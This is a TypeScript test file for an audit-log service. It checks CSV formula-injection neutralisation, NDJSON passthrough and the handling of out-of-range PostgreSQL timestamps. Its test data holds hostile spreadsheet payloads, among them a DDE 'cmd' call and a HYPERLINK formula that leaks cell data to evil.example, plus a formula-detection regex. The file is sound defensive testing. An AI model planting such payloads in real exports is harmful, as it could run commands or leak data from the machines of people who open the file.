import { type INestApplication } from '@nestjs/common';
import { type Server } from 'node:http';
import request from 'supertest';
import { AuditQueryError, AuditQueryService } from '../src/audit';
import { parseCsv } from './support/csv';
import { TestPostgres } from './support/postgres';
import { orderedId, seed, startQueryApp } from './support/query-app';

// eslint-disable-next-line no-control-regex -- control characters are what a spreadsheet trims or splits on
const FORMULA = /^[\s\u0000-\u001f\u007f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

// Stored values an attacker chose, or that no check stopped, read back by an auditor: formulas
// in any column of a CSV export, and timestamps PostgreSQL holds but ISO 8601 years 1 to 9999 do
// not (infinity, year 10000 and later, years BC).
describe('reading hostile values', () => {
  let db: TestPostgres;
  let app: INestApplication<Server>;
  const get = (path: string) => request(app.getHttpServer()).get(path).set('x-auditor', 'yes');

  beforeAll(async () => {
    db = await TestPostgres.start();
    app = await startQueryApp(db.url());
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await db?.stop();
  });

  it('neutralises formulas in every CSV column, the JSON ones too, and leaves NDJSON as stored', async () => {
    const hostile = {
      id: orderedId(100),
      occurredAt: '2026-11-10T00:00:00Z',
      action: '@SUM(1+1)*cmd|" /C calc"!A0',
      entityType: '+cmd',
      entityId: '-2+3',
      userId: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      userAgent: 'Mozilla/5.0;=cmd|x\r\n\t=1',
      changes: -5,
    };
    await seed(db, [hostile, { id: orderedId(101), occurredAt: '2026-11-10T00:00:01Z', userId: '\t=1', changes: { note: 'a;=1' } }]);
    await db.query(
      `INSERT INTO audit_log (id, occurred_at, action, outcome, ip, request_id, metadata)
       VALUES ($1, '2026-11-10T00:00:02Z', '=1', 'success', '-1', ' =1', '-0.5')`,
      [orderedId(102)],
    );

    const csv = await get('/audit/export?format=csv&from=2026-11-10&to=2026-11-11').expect(200);
    const [header, ...records] = parseCsv(csv.text);
    expect(records).toHaveLength(3);
    for (const record of records) {
      for (const cell of record) {
        for (const part of cell.split(/[\r\n\t;]/)) expect(part).not.toMatch(FORMULA);
      }
    }
    const first = Object.fromEntries(header.map((name, i) => [name, records[0][i]]));
    expect(first).toMatchObject({
      action: `'@SUM(1+1)*cmd|" /C calc"!A0`,
      entityType: "'+cmd",
      entityId: "'-2+3",
      userId: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      userAgent: "Mozilla/5.0;'=cmd|x\r\n\t'=1",
      changes: "'-5",
    });
    const third = Object.fromEntries(header.map((name, i) => [name, records[2][i]]));
    expect(third).toMatchObject({ action: "'=1", ip: "'-1", requestId: "' =1", metadata: "'-0.5" });
    expect(records[1][header.indexOf('changes')]).toBe(`{"note": "a;'=1"}`);

    const ndjson = await get('/audit/export?from=2026-11-10&to=2026-11-11').expect(200);
    const rows = ndjson.text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows[0]).toMatchObject({ ...hostile, occurredAt: '2026-11-10T00:00:00.000Z' });
    expect(rows[1]).toMatchObject({ userId: '\t=1', changes: { note: 'a;=1' } });
  });

  describe('timestamps outside years 1 to 9999', () => {
    // NDA odd's rows, newest first, with the occurredAt a reader is shown.
    const odd: [id: string, stored: string, shown: string][] = [
      [orderedId(203), 'infinity', 'infinity'],
      [orderedId(207), '294276-12-31 23:59:59.999999+00', '+294276-12-31T23:59:59.999Z'],
      [orderedId(202), '10000-01-01T00:00:00Z', '+010000-01-01T00:00:00.000Z'],
      [orderedId(206), '2026-11-02T10:00:00.000123Z', '2026-11-02T10:00:00.000Z'],
      [orderedId(201), '2026-11-01T10:00:00Z', '2026-11-01T10:00:00.000Z'],
      [orderedId(205), '0044-03-15 12:00:00+00 BC', '-000043-03-15T12:00:00.000Z'],
      [orderedId(204), '-infinity', '-infinity'],
    ];

    beforeAll(async () => {
      // Rows stored before the range constraints existed: on such a table the migration leaves them
      // NOT VALID; here they are dropped (from every partition) while the rows are stored.
      const constraints = ['audit_log_occurred_at_range', 'audit_log_recorded_at_range'];
      const defined = await db.query<{ name: string }>(
        `SELECT conname AS name FROM pg_constraint WHERE conrelid = 'audit_log'::regclass AND conname = ANY($1)`,
        [constraints],
      );
      expect(defined.map(({ name }) => name).sort()).toEqual(constraints);
      for (const { name } of defined) await db.query(`ALTER TABLE audit_log DROP CONSTRAINT ${name}`);
      await seed(
        db,
        odd.map(([id, stored]) => ({ id, occurredAt: stored, entityId: 'odd', userId: 'odd-user' })),
      );
    });

    it('pages past each of them, one row a page, with every date legible and every cursor accepted', async () => {
      const seen: [string, unknown][] = [];
      let cursor: string | null = null;
      do {
        const page = await get(`/audit/entities/NDA/odd?limit=1${cursor ? `&cursor=${cursor}` : ''}`).expect(200);
        const body = page.body as { items: { id: string; occurredAt: unknown }[]; nextCursor: string | null };
        seen.push(...body.items.map((item): [string, unknown] => [item.id, item.occurredAt]));
        cursor = body.nextCursor;
      } while (cursor && seen.length <= odd.length);
      expect(seen).toEqual(odd.map(([id, , shown]) => [id, shown]));

      const queries = app.get(AuditQueryService);
      const all = await queries.byUser('odd-user', { from: '2026-01-01' }, { limit: 2 });
      expect(all.items.map((item) => item.occurredAt)).toEqual(['infinity', '+294276-12-31T23:59:59.999Z']);
      const next = await queries.byUser('odd-user', { from: '2026-01-01' }, { limit: 2, cursor: all.nextCursor ?? undefined });
      expect(next.items.map((item) => item.occurredAt)).toEqual([
        new Date('+010000-01-01T00:00:00Z'),
        new Date('2026-11-02T10:00:00.000Z'),
      ]);
    });

    it('exports them legibly, in order, as NDJSON and CSV', async () => {
      const ndjson = await get('/audit/export?entityId=odd').expect(200);
      const rows = ndjson.text
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { id: string; occurredAt: string });
      expect(rows.map((row) => [row.id, row.occurredAt])).toEqual(odd.map(([id, , shown]) => [id, shown]).reverse());
      const csv = await get('/audit/export?entityId=odd&format=csv').expect(200);
      const [header, ...records] = parseCsv(csv.text);
      const at = header.indexOf('occurredAt');
      // A leading minus is neutralised as any other: the cell shows the text, not a formula.
      expect(records.map((record) => record[at].replace(/^'/, ''))).toEqual(odd.map(([, , shown]) => shown).reverse());
    });

    it.each([
      ['/audit?from=9999-12-31T23:00:00-01:00', 'from'],
      ['/audit?to=9999-12-31T23:59:59.999999-00:01', 'to'],
      ['/audit/export?from=9999-12-31T22:00:00-05:00', 'from'],
      ['/audit?userId=odd-user&from=0001-01-01T00:30:00%2B01:00', 'from'],
    ])('answers %s with 400 naming "%s", never 503', async (path, parameter) => {
      const response = await get(path).expect(400);
      expect(response.body).toMatchObject({ statusCode: 400, code: 'AUDIT_INVALID_QUERY' });
      expect(response.body.message).toContain(`query parameter "${parameter}"`);
      expect(response.body.message).toMatch(/years 1 to 9999/);
    });

    it('refuses a Date past year 9999 given to the service, as bad input', async () => {
      const queries = app.get(AuditQueryService);
      await expect(queries.search({ from: new Date('+010000-01-01T00:00:00Z') })).rejects.toThrow(AuditQueryError);
      await expect(queries.export({ to: new Date(8.64e15) })).rejects.toThrow(/query parameter "to" .*years 1 to 9999/);
    });
  });
});
